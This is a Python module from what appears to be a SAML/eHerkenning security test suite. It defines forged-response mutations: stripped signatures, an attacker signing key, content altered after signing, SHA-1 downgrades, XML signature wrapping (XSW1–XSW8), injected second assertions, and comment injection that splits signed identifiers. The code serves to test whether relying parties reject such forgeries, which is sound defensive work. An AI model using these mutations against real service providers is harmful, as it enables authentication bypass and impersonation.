"""Mutations of the signature family: missing, foreign, weak or misplaced signatures, wrapping, comments."""

from __future__ import annotations

import copy

import xmlsec
from lxml import etree

from ehsaml import dsig, ns
from ehsaml import eherkenning as eh

from ..registry import NotApplicable, mutation
from ...response import new_id
from ._common import (DIGESTS, OTHER_ACS, OTHER_DV, OTHER_SERVICE, SIG_METHODS, _assertion, _assertions, _q,
                      _resign, _sign, _xp, attacker)
from .eherkenning import _attribute, _clear, _values



@mutation("strip_signatures")
def strip_signatures(ctx, response=True, assertion=True):
    """Remove the Response's and/or the assertion's signature."""
    if assertion:
        dsig.strip_signature(_assertion(ctx))
        if not response:
            _resign(ctx, assertion=False)
    if response:
        dsig.strip_signature(ctx.response)
    return ctx.response


@mutation("sign_with_key")
def sign_with_key(ctx, targets=("assertion", "response"), keyinfo="attacker"):
    """Sign with the TEST-ONLY attacker key; KeyInfo names the attacker's cert, the broker's, or nothing."""
    bad = attacker()
    for target in ("assertion", "response"):
        el = _assertion(ctx) if target == "assertion" else ctx.response
        if target in targets:
            _sign(el, bad, key_name=keyinfo != "none", x509_data=keyinfo != "none")
            if keyinfo == "broker":  # the claimed key is the broker's; the signature is the attacker's
                sig = dsig.signature_of(el)
                _xp(sig, ".//ds:KeyName").text = ctx.keypair.certificate.key_name
                _xp(sig, ".//ds:X509Certificate").text = ctx.keypair.certificate.b64
        elif target == "response" and ctx.response_signed:
            _sign(el, ctx.keypair)
    return ctx.response


@mutation("change_after_signing")
def change_after_signing(ctx, target="assertion", change="level"):
    """Change signed content without signing again (the Response stays validly signed for an assertion change)."""
    a = _assertion(ctx)
    if change == "level":
        a.find(".//saml:AuthnContextClassRef", ns.NSMAP).text = eh.Level.EH4.value
    elif change == "audience":
        a.find(".//saml:Audience", ns.NSMAP).text = OTHER_DV
    elif change == "service_id":
        _values(a, eh.ATTR_SERVICE_ID)[0].text = OTHER_SERVICE
    elif change == "destination":
        ctx.response.set("Destination", OTHER_ACS)
    if target == "assertion":
        _resign(ctx, assertion=False)
    return ctx.response


@mutation("weak_algorithms")
def weak_algorithms(ctx, target="assertion", signature_method="rsa-sha1", digest="sha1"):
    """Sign the assertion or the Response with a SHA-1 signature method and/or digest."""
    weak = dict(signature_method=SIG_METHODS[signature_method], digest_method=DIGESTS[digest])
    if target == "assertion":
        _sign(_assertion(ctx), ctx.keypair, **weak)
        _resign(ctx, assertion=False)
    else:
        _sign(ctx.response, ctx.keypair, **weak)
    return ctx.response


@mutation("reference_uri")
def reference_uri(ctx, uri="empty"):
    """Sign the assertion with a Reference URI that is empty (whole document) or names the Response."""
    a = _assertion(ctx)
    dsig.strip_signature(a)
    if uri == "empty":
        dsig.sign(a, ctx.keypair, reference_uri="")
    else:
        _sign_reference_to(a, ctx.response, ctx.keypair)
    _resign(ctx, assertion=False)
    return ctx.response


def _sign_reference_to(holder, target, keypair) -> None:
    """An enveloped signature inside `holder` whose one Reference points at `target` (another element)."""
    signature = xmlsec.template.create(holder, xmlsec.Transform.EXCL_C14N, xmlsec.Transform.RSA_SHA256, ns="ds")
    holder.find(_q("Issuer")).addnext(signature)
    ref = xmlsec.template.add_reference(signature, xmlsec.Transform.SHA256, uri=f"#{target.get('ID')}")
    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
    xmlsec.template.add_key_name(xmlsec.template.ensure_key_info(signature)).text = keypair.certificate.key_name
    sctx = xmlsec.SignatureContext()
    sctx.key = keypair.xmlsec_key
    sctx.register_id(target, "ID")
    sctx.sign(signature)


@mutation("signature_transform")
def signature_transform(ctx, algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"):
    """Add a Transform (XSLT, XPath…) to the assertion's Reference."""
    transforms = _xp(dsig.signature_of(_assertion(ctx)), ".//ds:Transforms")
    etree.SubElement(transforms, ns.q("ds", "Transform"), Algorithm=algorithm)
    _resign(ctx, assertion=False)
    return ctx.response


def _evil_copy(original, *, keep_id=False, keep_signature=False):
    """A copy of a signed element with changed content (a NameID of the attacker's choosing)."""
    evil = copy.deepcopy(original)
    if not keep_signature:
        dsig.strip_signature(evil)
    if not keep_id:
        evil.set("ID", new_id())
    name_id = evil.find("saml:Subject/saml:NameID", ns.NSMAP)
    if name_id is not None:
        name_id.text = "attacker-chosen-subject"
    level = evil.find(".//saml:AuthnContextClassRef", ns.NSMAP)
    if level is not None:
        level.text = eh.Level.EH4.value
    return evil


@mutation("xsw")
def xsw(ctx, variant):
    """XML signature wrapping, the SAML Raider variants XSW1–XSW8."""
    r = ctx.response
    if variant in (1, 2):  # on the Response signature: an evil Response wraps the signed original
        if dsig.signature_of(r) is None:
            dsig.sign(r, ctx.keypair)
        original = copy.deepcopy(r)
        evil = _evil_copy(r, keep_signature=True)
        for a in _assertions(evil):
            dsig.strip_signature(a)
            a.set("ID", new_id())
        sig = dsig.signature_of(evil)
        if variant == 1:
            dsig.strip_signature(original)  # XSW1: the original, unsigned, inside the evil Response's signature
            sig.append(original)
        else:
            dsig.strip_signature(original)  # XSW2: the original as a detached sibling before the signature
            sig.addprevious(original)
        return evil
    original = _assertion(ctx)
    dsig.strip_signature(r)  # assertion wrapping: the IdP signs the assertion only
    if variant == 3:  # evil assertion before the signed one
        original.addprevious(_evil_copy(original))
    elif variant == 4:  # evil assertion wraps the signed one
        evil = _evil_copy(original)
        original.addprevious(evil)
        evil.append(original)
    elif variant == 5:  # evil assertion keeps the signature; an unsigned copy of the original at the end
        evil = _evil_copy(original, keep_signature=True)
        plain = copy.deepcopy(original)
        dsig.strip_signature(plain)
        original.addprevious(evil)
        r.remove(original)
        r.append(plain)
    elif variant in (6, 8):  # evil assertion keeps the signature; the original inside it (8: in a ds:Object)
        evil = _evil_copy(original, keep_signature=True)
        inner = copy.deepcopy(original)
        if variant == 8:
            dsig.strip_signature(inner)
        sig = dsig.signature_of(evil)
        holder = etree.SubElement(sig, ns.q("ds", "Object")) if variant == 8 else sig
        holder.append(inner)
        original.addprevious(evil)
        r.remove(original)
    elif variant == 7:  # the signed original in samlp:Extensions, the evil one where it was
        extensions = etree.Element(_q("Extensions", "samlp"))
        r.find(_q("Issuer")).addnext(extensions)
        evil = _evil_copy(original)
        original.addprevious(evil)
        extensions.append(original)
    return r


@mutation("second_assertion")
def second_assertion(ctx, position="before", signed=False):
    """A second assertion beside the signed one (unsigned, or also signed by the broker)."""
    original = _assertion(ctx)
    evil = _evil_copy(original)
    if signed:
        dsig.sign(evil, ctx.keypair)
    (original.addprevious if position == "before" else original.addnext)(evil)
    dsig.strip_signature(ctx.response)
    return ctx.response


@mutation("comment_injection")
def comment_injection(ctx, field="kvk"):
    """Sign a value, then split it with an XML comment: exc-c14n ignores comments, a naive reader stops there."""
    a = _assertion(ctx)
    identity = ctx.outcome.identity
    if field == "kvk" and not identity.kvk:
        raise NotApplicable("the base answer has no KvK number")
    if field == "kvk":  # the signed KvK is the attacker's longer one; a naive DV reads the victim's 8 digits
        signed, cut = identity.kvk + "99", 8
        attr = _attribute(a, eh.ATTR_LEGAL_SUBJECT)
        _clear(attr)
        nid = etree.SubElement(etree.SubElement(attr, _q("AttributeValue")), _q("NameID"),
                               Format=ns.NAMEID_PERSISTENT, NameQualifier=eh.ID_KVK)
        nid.text = signed
    else:  # ServiceID: the signed value is another service; a naive DV reads its own
        nid = _values(a, eh.ATTR_SERVICE_ID)[0]
        cut = len(nid.text)
        nid.text = nid.text + "0"
    _resign(ctx)
    text = nid.text
    nid.text = text[:cut]
    comment = etree.Comment("")
    comment.tail = text[cut:]
    nid.append(comment)
    return ctx.response


# --- protocol --------------------------------------------------------------------------------------
